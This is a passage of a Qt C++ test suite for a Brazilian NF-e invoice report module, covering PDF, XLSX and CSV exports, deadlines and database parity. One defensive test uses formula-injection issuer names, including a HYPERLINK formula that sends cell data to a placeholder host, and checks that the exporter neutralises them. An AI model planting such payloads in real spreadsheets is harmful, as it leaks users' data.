    QVERIFY(text.contains(QStringLiteral("Emissão: 01/11/2026 a 30/11/2026; Operação: Entrada")));
    for (const char* line :
         {"Vermelho\\s+Notas inexistentes no sistema\\s+3",
          "Verde\\s+Notas Sincronizadas "
          "Sefaz/Sistema\\s+120",
          "Azul\\s+Notas Em Importação Sefaz/XML\\s+7", "Cinza\\s+Notas inexistentes na Sefaz\\s+2",
          "Total de notas\\s+132"}) {
        QVERIFY2(QRegularExpression(QString::fromUtf8(line)).match(text).hasMatch(), line);
    }
    // The list grouped by synchronisation group, in the filter's view.
    QVERIFY(text.contains(QStringLiteral("AB.12C.D34/0001-95")));
    QVERIFY(text.contains(QStringLiteral("123.456.789-09")));
    QVERIFY(!text.contains(QStringLiteral("Oculta pelo filtro")));
    const qsizetype red = text.indexOf(QStringLiteral("Grupo: Notas inexistentes no sistema"));
    const qsizetype green = text.indexOf(QStringLiteral("Grupo: Notas Sincronizadas"));
    QVERIFY(red > 0 && green > red);
    QVERIFY(
        QRegularExpression(QStringLiteral("Total de Notas Sincronizadas Sefaz/Sistema \\(Verde\\) "
                                          "\\(2 registros\\)\\s+1.510,25"))
            .match(text)
            .hasMatch());
    QVERIFY(text.contains(QStringLiteral("Total da lista (3 registros)")));
    QVERIFY(text.contains(QStringLiteral("1.610,15")));
}

void TestReports::openNotesComeSoonestDeadlineFirst() {
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
    const auto r = engine.Fetch(QStringLiteral("DFE58305"));
    const QList<QVariantList> open = rowsOf(QStringLiteral(
        "SELECT NRNOTAFISC, DTRECBTO FROM NOTADEST WHERE CDEMPRESA = '01' AND IDSTATUSNFE = '1' "
        "AND IDSTATUSMANIF IN ('0', '4')"));
    QHash<QString, QDate> authorised;
    for (const QVariantList& row : open) {
        authorised.insert(row[0].toString(),
                          QDate::fromString(row[1].toString().left(10), Qt::ISODate));
    }
    QCOMPARE(r->rowCount(), int(open.size()));
    QVERIFY(r->rowCount() > 5);

    // Deadlines by the application server's own rule, days counted on Brasília's calendar.
    const QDate today = reportformat::brasiliaNow().date();
    const ReportSectionData& data = r->sections[0];
    const int number = data.fieldIndex(QStringLiteral("NRNOTAFISC"));
    const int days = data.fieldIndex(QStringLiteral("NRDIAS"));
    const int deadline = data.fieldIndex(QStringLiteral("DTPRAZO"));
    int previous = INT_MIN;
    for (int row = 0; row < data.rowCount(); ++row) {
        const QDate due = dfe58000::rules::conclusiveDeadline(
            authorised.value(data.value(row, number).toString()), today);
        QCOMPARE(reportformat::toDateTime(data.value(row, deadline)).date(), due);
        QCOMPARE(data.value(row, days).toLongLong(), today.daysTo(due));
        QVERIFY(data.value(row, days).toInt() >= previous);
        previous = data.value(row, days).toInt();
    }

    const QString pdf = file("DFE58305.pdf");
    QVERIFY(engine.Execute(QStringLiteral("DFE58305"), ReportOutput::Pdf, pdf));
    const QString text = pdfText(pdf);
    QVERIFY(text.contains(QStringLiteral("Notas sem Manifestação Conclusiva")));
    QVERIFY(text.contains(QStringLiteral("Dias restantes")));
    QVERIFY(text.contains(QStringLiteral("Total geral (%1 registros)").arg(r->rowCount())));
    QVERIFY(text.contains(r->cellText(0, 0, 7)));  // the soonest deadline
}

void TestReports::previewShowsTheSamePagesAsThePdf() {
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
    const QString pdf = file("DFE58302.pdf");
    QVERIFY(engine.Execute(QStringLiteral("DFE58302"), ReportOutput::Pdf, pdf));
    int shown = -1;
    QString title;
    host::test::ModalAction close([&](QWidget* modal) {
        auto* preview = qobject_cast<QPrintPreviewDialog*>(modal);
        if (!preview) {
            return;
        }
        title = preview->windowTitle();
        if (auto* w = preview->findChild<QPrintPreviewWidget*>()) {
            shown = w->pageCount();
        }
        preview->reject();
    });
    QVERIFY(engine.Execute(QStringLiteral("DFE58302"), ReportOutput::Preview));
    QVERIFY(close.done());
    QCOMPARE(title, QStringLiteral("Notas por Situação da Manifestação"));
    QCOMPARE(shown, pdfPages(pdf));
}

void TestReports::spreadsheetCellsAreTyped() {
    TReportDesignerDialog engine;
    addDataSets(engine);
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
    const QString xlsx = file("DFE58304.xlsx");
    QVERIFY(engine.Execute(QStringLiteral("DFE58304"), ReportOutput::Xlsx, xlsx));
    QCOMPARE(filesIn(m_out.path()), QStringList{"DFE58304.xlsx"});  // nothing left beside it
    // The workbook gets the permissions any file the user saves gets, not the private ones of
    // the temporary name it was written under.
    {
        QSaveFile plain(file("plain.txt"));
        QVERIFY(plain.open(QIODevice::WriteOnly) && plain.commit());
        QCOMPARE(QFileInfo(xlsx).permissions(), QFileInfo(file("plain.txt")).permissions());
        QFile::remove(file("plain.txt"));
    }
    const QString workbook = QString::fromUtf8(unzipped(xlsx, QStringLiteral("xl/workbook.xml")));
    QVERIFY(workbook.contains(QStringLiteral("Grupos de sincronização")));
    const QString sheet1 =
        QString::fromUtf8(unzipped(xlsx, QStringLiteral("xl/worksheets/sheet1.xml")));
    // Quantities from the data set's text field are numbers.
    QVERIFY2(QRegularExpression(QStringLiteral("<c r=\"C3\"[^>]*><v>120</v></c>"))
                 .match(sheet1)
                 .hasMatch(),
             qPrintable(sheet1.left(1500)));
    QVERIFY(sheet1.contains(QStringLiteral("Notas Em Importação Sefaz/XML")));

    const QString sheet2 =
        QString::fromUtf8(unzipped(xlsx, QStringLiteral("xl/worksheets/sheet2.xml")));
    const QString styles = QString::fromUtf8(unzipped(xlsx, QStringLiteral("xl/styles.xml")));
    // Row 2 is the red group's note: issue date 30/11/2026 as a date serial with a date
    // format, the amount a number with #,##0.00; names and masked registrations are texts.
    const auto styleOf = [&](const QString& cell) {
        const auto m = QRegularExpression(
                           QStringLiteral("<c r=\"%1\" s=\"(\\d+)\"[^>]*><v>([^<]*)</v>").arg(cell))
                           .match(sheet2);
        return m.hasMatch() ? std::pair{m.captured(1).toInt(), m.captured(2)}
                            : std::pair{-1, QString()};
    };
    const auto [dateStyle, dateValue] = styleOf(QStringLiteral("A2"));
    QCOMPARE(dateValue.toDouble(), 46356.0);  // 30/11/2026
    const auto [moneyStyle, moneyValue] = styleOf(QStringLiteral("I2"));
    QCOMPARE(moneyValue.toDouble(), 99.9);
    const QStringList xfs = [&] {
        const qsizetype from = styles.indexOf(QStringLiteral("<cellXfs"));
        QStringList out;
        auto it = QRegularExpression(QStringLiteral("<xf [^>]*numFmtId=\"(\\d+)\""))
                      .globalMatch(styles.mid(from));
        while (it.hasNext()) {
            out << it.next().captured(1);
        }
        return out;
    }();
    const auto formatOf = [&](int style) {
        const QString id = xfs.value(style);
        const auto m =
            QRegularExpression(QStringLiteral("numFmtId=\"%1\" formatCode=\"([^\"]*)\"").arg(id))
                .match(styles);
        return m.hasMatch() ? m.captured(1) : id;
    };
    QCOMPARE(formatOf(dateStyle), QStringLiteral("dd/mm/yyyy"));
    QVERIFY2(formatOf(moneyStyle) == u"#,##0.00" || formatOf(moneyStyle) == u"4",
             qPrintable(formatOf(moneyStyle)));
    QVERIFY(sheet2.contains(QStringLiteral("Açúcar União Ltda")));
    QVERIFY(sheet2.contains(QStringLiteral("AB.12C.D34/0001-95")));
    QVERIFY(sheet2.contains(QStringLiteral("Emissão")));  // the header row
}

void TestReports::csvOpensInABrazilianSpreadsheet() {
    TReportDesignerDialog engine;
    addDataSets(engine);
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
    const QString csv = file("DFE58304.csv");
    QVERIFY(engine.Execute(QStringLiteral("DFE58304"), ReportOutput::Csv, csv));
    QFile f(csv);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray bytes = f.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    const QStringList lines = QString::fromUtf8(bytes.mid(3)).split(QStringLiteral("\r\n"));
    QCOMPARE(lines[0], QStringLiteral("Cor;Grupo;Quantidade"));
    QCOMPARE(lines[2], QStringLiteral("Verde;Notas Sincronizadas Sefaz/Sistema;120"));
    const int list = int(lines.indexOf(QStringLiteral(
        "Emissão;Número;Série;Emitente;CNPJ/CPF;Filial;Lançamento;Manifestação;Valor")));
    QVERIFY(list > 0);
    QCOMPARE(lines[list - 1], QString());
    // Groups in key order: the red note first, its name quoted for its ';' and quotes.
    QCOMPARE(lines[list + 1],
             QStringLiteral("30/11/2026;000000012;1;\"Pão; Café \"\"Bom\"\"\";123.456.789-09;;;"
                            "Ciência da Operação;99,90"));
    QCOMPARE(lines[list + 2].section(u';', 8), QStringLiteral("1500,25"));
}

void TestReports::textsThatLookLikeFormulasStayTexts() {
    // Issuer names and registrations as they come in the notes, some shaped to run as formulas
    // in the spreadsheet that opens the export; the amounts are negative.
    const QList<std::pair<QString, QString>> issuers = {
        {QStringLiteral("=HYPERLINK(\"http://exemplo.invalid/?d=\"&A1;\"Ver nota\")"),
         QStringLiteral("48210375000102")},
        {QStringLiteral("-Teste"), QStringLiteral("-2+3")},
        {QStringLiteral("+55 11 3333-4444"), QStringLiteral("@A1")},
        {QStringLiteral("@SOMA(1;2)"), QStringLiteral("=1")},
        {QStringLiteral("\tTeste"), QStringLiteral("12345678909")},
        {QStringLiteral("\r=1+1"), QStringLiteral("12345678909")},
        {QStringLiteral("Ferragens São José - Filial"), QStringLiteral("12345678909")},
    };
    TClientDataSet notas;
    createNotesList(notas);
    for (int i = 0; i < issuers.size(); ++i) {
        notas.Append();
        notas.FieldByName(QStringLiteral("IDNOTA")).SetAsString(QStringLiteral("2"));
        notas.FieldByName(QStringLiteral("NRNOTAFISC")).SetAsString(QString::number(100 + i));
        notas.FieldByName(QStringLiteral("NMRAZSOCEMIT")).SetAsString(issuers[i].first);
        notas.FieldByName(QStringLiteral("NRINSJURNFORIG")).SetAsString(issuers[i].second);
        notas.FieldByName(QStringLiteral("IDSTATUSMANIF")).SetAsString(QStringLiteral("4"));
        notas.FieldByName(QStringLiteral("DTEMISSAO"))
            .SetAsDateTime(QDateTime(QDate(2026, 11, 30), QTime(10, 0)));
        notas.FieldByName(QStringLiteral("VRNOTAFISC")).SetAsFloat(-12.5 - i);
        notas.Post();
    }
    TReportDesignerDialog engine;
    engine.AddDataSet(QStringLiteral("dtsContaNotas"), &m_contaNotas);
    engine.AddDataSet(QStringLiteral("dtsNotasDestinadas"), &notas);
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };

    const QString csv = file("DFE58304.csv");
    QVERIFY(engine.Execute(QStringLiteral("DFE58304"), ReportOutput::Csv, csv));
    QFile f(csv);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QStringList lines = QString::fromUtf8(f.readAll().mid(3)).split(QStringLiteral("\r\n"));
    const QStringList expected = {
        "30/11/2026;100;;\"'=HYPERLINK(\"\"http://exemplo.invalid/?d=\"\"&A1;\"\"Ver "
        "nota\"\")\";48.210.375/0001-02;;;Ciência da Operação;-12,50",
        "30/11/2026;101;;'-Teste;'-2+3;;;Ciência da Operação;-13,50",
        "30/11/2026;102;;'+55 11 3333-4444;'@A1;;;Ciência da Operação;-14,50",
        "30/11/2026;103;;\"'@SOMA(1;2)\";'=1;;;Ciência da Operação;-15,50",
        "30/11/2026;104;;'\tTeste;123.456.789-09;;;Ciência da Operação;-16,50",
        "30/11/2026;105;;\"'\r=1+1\";123.456.789-09;;;Ciência da Operação;-17,50",
        "30/11/2026;106;;Ferragens São José - Filial;123.456.789-09;;;Ciência da Operação;-18,50",
    };
    const qsizetype header = lines.indexOf(QStringLiteral(
        "Emissão;Número;Série;Emitente;CNPJ/CPF;Filial;Lançamento;Manifestação;Valor"));
    QVERIFY(header > 0);
    QCOMPARE(lines.mid(header + 1, expected.size()), expected);

    // The spreadsheet's text cells hold the names as they are: a text cell is never a formula.
    const QString xlsx = file("DFE58304.xlsx");
    QVERIFY(engine.Execute(QStringLiteral("DFE58304"), ReportOutput::Xlsx, xlsx));
    const QString sheet =
        QString::fromUtf8(unzipped(xlsx, QStringLiteral("xl/worksheets/sheet2.xml")));
    QVERIFY(sheet.contains(QStringLiteral("<t>-Teste</t>")));
    QVERIFY(sheet.contains(QStringLiteral("=HYPERLINK(")));
    QVERIFY(!sheet.contains(QStringLiteral("<f>")));
}

void TestReports::cancelledExportsLeaveNoFile() {
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) {
        allCriteria(params);
        params.ParamByName(QStringLiteral("P_CDEMPRESA")).SetAsString(QStringLiteral("T"));
    };
    const auto r = engine.Fetch(QStringLiteral("DFE58301"));
    QVERIFY(r->rowCount() > 500);  // past the first progress call
    const QString csv = file("antigo.csv"), xlsx = file("antigo.xlsx");
    for (const QString& path : {csv, xlsx}) {
        QFile old(path);
        QVERIFY(old.open(QIODevice::WriteOnly));
        old.write("anterior");
    }
    const auto stop = [](int, int) { return false; };
    QVERIFY(!reportexport::writeCsv(*r, csv, stop));
    QVERIFY(!reportexport::writeXlsx(*r, xlsx, stop));
    for (const QString& path : {csv, xlsx}) {
        QFile old(path);
        QVERIFY(old.open(QIODevice::ReadOnly));
        QCOMPARE(old.readAll(), QByteArray("anterior"));
    }
    QCOMPARE(filesIn(m_out.path()), (QStringList{"antigo.csv", "antigo.xlsx"}));
    // A directory that cannot take the file: a clear error, nothing written.
    QVERIFY_THROWS_EXCEPTION(EHostError, reportexport::writeXlsx(*r, file("nao/existe.xlsx")));
    QVERIFY_THROWS_EXCEPTION(EHostError, reportexport::writeCsv(*r, file("nao/existe.csv")));
}

void TestReports::reportsGiveTheSameRowsOnPostgres_data() {
    QTest::addColumn<QString>("report");
    QTest::addColumn<QStringList>("values");  // parameter, value, ... over allCriteria's
    QTest::addColumn<bool>("narrows");        // fewer rows than with every criterion open

    // Values taken from open notes of company 01 (authorised, no conclusive event), which
    // every report lists, so that no case comes out empty.
    const QString open = QStringLiteral(
        "FROM NOTADEST WHERE CDEMPRESA = '01' AND IDSTATUSNFE = '1' AND IDSTATUSMANIF IN "
        "('0', '4') AND DTRECBTO IS NOT NULL");
    const auto first = [&](const QString& select) {
        const QList<QVariantList> rows = rowsOf(select);
        return rows.isEmpty() ? QString() : rows[0][0].toString();
    };
    const QString day = first(QStringLiteral("SELECT substr(DTEMISSAO, 1, 10) %1 GROUP BY 1 "
                                             "ORDER BY COUNT(*) DESC, 1 LIMIT 1")
                                  .arg(open));
    const QList<QVariantList> types =
        rowsOf(QStringLiteral("SELECT CDTIPOOPER %1 GROUP BY CDTIPOOPER ORDER BY COUNT(*) DESC, 1 "
                              "LIMIT 2")
                   .arg(open));
    const QList<QVariantList> supplier =
        rowsOf(QStringLiteral("SELECT CDEMITENTE, CDSERIE, IDENTRSAIDOP, IDENTRSAIDNF %1 AND "
                              "IDORIGEMIT = 'F' GROUP BY 1, 2, 3, 4 ORDER BY COUNT(*) DESC, 1 "
                              "LIMIT 1")
                   .arg(open));
    const QList<QVariantList> recipient = rowsOf(
        QStringLiteral("SELECT NRINSJURIESTDEST, CDINSCESTADEST, CDFILIALORIG %1 GROUP BY 1, 2, "
                       "3 ORDER BY COUNT(*) DESC, 1 LIMIT 1")
            .arg(open));
    const QString key = first(QStringLiteral("SELECT NRACESSONF %1 ORDER BY 1 LIMIT 1").arg(open));
    QVERIFY(!day.isEmpty() && !key.isEmpty());
    QCOMPARE(types.size(), 2);
    QCOMPARE(supplier.size(), 1);
    QCOMPARE(recipient.size(), 1);

    const QList<std::pair<const char*, QStringList>> common = {
        {"todas as notas da empresa", {}},
        {"todas as empresas", {"P_CDEMPRESA", "T"}},
        // One day from and to: every note of it, whatever its hour.
        {"um dia", {"P_DTINICIAL", day, "P_DTFINAL", day}},
        {"tipos de operação",
         {"P_CDTIPOOPER", types[0][0].toString() + u',' + types[1][0].toString()}},
        {"fornecedor, série e operação",
         {"P_IDORIGDESTNF", "F", "P_CDFORNECED", supplier[0][0].toString(), "P_CDSERIE",
          supplier[0][1].toString(), "P_IDENTRSAIDOP", supplier[0][2].toString(), "P_IDENTRSAIDNF",
          supplier[0][3].toString()}},
        {"inscrições do destinatário",
         {"P_NRINSJURIEST", recipient[0][0].toString(), "P_CDINSCESTA", recipient[0][1].toString(),
          "P_CDFILIORIG", recipient[0][2].toString()}},
        {"chave de acesso", {"P_NRACESSONFE", key}},
    };
    // The situation lists exist in the reports that do not fix the situation themselves.
    const QList<std::pair<const char*, QStringList>> situations = {
        {"situações da NF-e", {"P_IDSTATUSNFE", "_1_3_"}},
        {"situações da NF-e por letra", {"P_IDSTATUSNFENF", "_A_C_"}},
        {"manifestações", {"P_IDSTATUSMANIF", "_0_1_4_"}},
        {"situações combinadas",
         {"P_IDSTATUSNFE", "_1_", "P_IDSTATUSNFENF", "_A_D_", "P_IDSTATUSMANIF", "_0_"}},
    };
    for (const char* report : {"DFE58301", "DFE58302", "DFE58303", "DFE58305"}) {
        const bool withSituations =
            QLatin1String(report) == u"DFE58301" || QLatin1String(report) == u"DFE58302";
        for (const auto& [name, values] : common) {
            QTest::addRow("%s %s", report, name)
                << QString::fromLatin1(report) << values
                << (!values.isEmpty() && values[0] != u"P_CDEMPRESA");
        }
        if (withSituations) {
            for (const auto& [name, values] : situations) {
                QTest::addRow("%s %s", report, name)
                    << QString::fromLatin1(report) << values << true;
            }
        }
    }
    // From data sets only: the same pages whatever the database, which it still reaches for
    // the company's name.
    QTest::addRow("DFE58304") << QStringLiteral("DFE58304") << QStringList{"P_IDENTRSAIDOP", "E"}
                              << false;
}

void TestReports::reportsGiveTheSameRowsOnPostgres() {
    QFETCH(QString, report);
    QFETCH(QStringList, values);
    QFETCH(bool, narrows);
    if (m_pgUrl.isEmpty()) {
        QSKIP(qPrintable(QStringLiteral("PostgreSQL indisponível: ") + m_pg->error()));
    }

    TReportDesignerDialog engine;
    addDataSets(engine);
    QList<SqlDialect> ranOn;
    engine.BeforeGetQueryParams = [&](TReportParams& params, bool&) {
        ranOn << DatabaseModule::instance().dialect();
        allCriteria(params);
        for (int i = 0; i + 1 < values.size(); i += 2) {
            TParam& p = params.ParamByName(values[i]);
            if (params.IsDate(values[i])) {
                p.SetAsDate(QDate::fromString(values[i + 1], Qt::ISODate));
            } else {
                p.SetAsString(values[i + 1]);
            }
        }
    };
    const auto onSqlite = engine.Fetch(report);
    std::unique_ptr<ReportResult> onPostgres;
    {
        const auto back = qScopeGuard([this] { DatabaseModule::Open(m_sqliteUrl); });
        DatabaseModule::Open(m_pgUrl);
        try {
            onPostgres = engine.Fetch(report);
        } catch (const EHostError& e) {
            QFAIL(qPrintable(e.text()));
        }
    }

    QCOMPARE(ranOn, (QList<SqlDialect>{SqlDialect::SQLite, SqlDialect::PostgreSQL}));
    QVERIFY(onSqlite->rowCount() > 0);
    if (narrows) {
        TReportDesignerDialog open;
        open.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
        QVERIFY2(onSqlite->rowCount() < open.Fetch(report)->rowCount(),
                 "the criteria leave every note in");
    }
    QCOMPARE(onPostgres->company, onSqlite->company);
    QCOMPARE(onPostgres->criteria, onSqlite->criteria);
    QCOMPARE(onPostgres->sections.size(), onSqlite->sections.size());
    for (int s = 0; s < int(onSqlite->sections.size()); ++s) {
        QCOMPARE(onPostgres->sections[size_t(s)].fields, onSqlite->sections[size_t(s)].fields);
        const QStringList expected = sectionRows(*onSqlite, s);
        const QStringList got = sectionRows(*onPostgres, s);
        for (int row = 0; row < std::min(expected.size(), got.size()); ++row) {
            QVERIFY2(got[row] == expected[row],
                     qPrintable(QStringLiteral("row %1\n  postgres: %2\n  sqlite:   %3")
                                    .arg(row)
                                    .arg(got[row], expected[row])));
        }
        QCOMPARE(got.size(), expected.size());
    }
}

void TestReports::baseFormListsTheDefinitionsAndSavesThroughTheSeam() {
    ScriptedDialogs dlg;
    TfrmDadosGerRel form;
    form.lblCodRel->setText(QStringLiteral("DFE58300"));
    form.rpddPadrao->BeforeGetQueryParams = [](TReportParams& params, bool&) {
        allCriteria(params);
    };
    form.DoCreate();
    QCOMPARE(form.FRepNames, (QStringList{"01", "02", "03", "04", "05"}));
    QCOMPARE(form.cbbReportNames->count(), 5);
    QCOMPARE(form.cbbReportNames->itemText(0), QStringLiteral("Notas Destinadas por Critério"));
    QCOMPARE(form.cbbReportNames->currentIndex(), 0);
    QCOMPARE(form.CodigoRelatorio(), QStringLiteral("DFE58301"));
    form.cbbReportNames->setCurrentIndex(4);
    QCOMPARE(form.CodigoRelatorio(), QStringLiteral("DFE58305"));

    const QStringList menu = [&] {
        QStringList out;
        for (QAction* a : form.ppmSalvar->actions()) {
            out << a->text();
        }
        return out;
    }();
    QCOMPARE(menu, (QStringList{"PDF...", "Planilha (.xlsx)...", "CSV..."}));
    QCOMPARE(form.sbtSalva->menu(), form.ppmSalvar);

    const QString target = file("prazos.csv");
    dlg.setNextSaveFile(target);
    form.ppmSalvar->actions().at(2)->trigger();
    QVERIFY(QFile::exists(target));
    QCOMPARE(dlg.calls().last().kind, host::test::DialogCall::SaveFile);
    QVERIFY(dlg.calls().last().start.endsWith(QStringLiteral("DFE58305.csv")));
    QVERIFY(dlg.calls().last().filter.contains(QStringLiteral("*.csv")));

    dlg.setNextSaveFile(QString());  // cancelled: nothing written
    form.ppmSalvar->actions().at(0)->trigger();
    QCOMPARE(filesIn(m_out.path()), QStringList{"prazos.csv"});
    QVERIFY_DIALOGS(dlg);
}

void TestReports::missingDefinitionStopsWithTheFormsMessage() {
    QVERIFY(QFile::copy(QStringLiteral(ORVANTA_SOURCE_DIR "/reports/DFE58302.json"),
                        file("DFE58302.json")));
    ScriptedDialogs dlg;
    TfrmDadosGerRel form;
    form.msgPadrao = new TMessages(&form);
    form.msgPadrao->SetLines({QStringLiteral("Arq_Rel_Err|") + kArqRelErr});
    form.lblCodRel->setText(QStringLiteral("DFE58300"));
    form.rpddPadrao->SetReportDir(m_out.path());
    bool asked = false;
    form.rpddPadrao->BeforeGetQueryParams = [&](TReportParams&, bool&) { asked = true; };
    form.DoCreate();
    QCOMPARE(form.FRepNames, QStringList{"02"});
    QVERIFY(QFile::remove(file("DFE58302.json")));

    dlg.expectError(QStringLiteral("O arquivo contendo a definição do relatório de código "
                                   "'DFE58302' não foi encontrado no diretório '%1'.")
                        .arg(QDir::toNativeSeparators(m_out.path())));
    form.sbtVisualiza->click();  // through the handler boundary: the stop ends quietly
    QVERIFY(!asked);
    QVERIFY_DIALOGS(dlg);
}

void TestReports::cleanupTestCase() {
    m_pg.reset();
}

QTEST_MAIN(TestReports)
#include "tst_reports.moc"
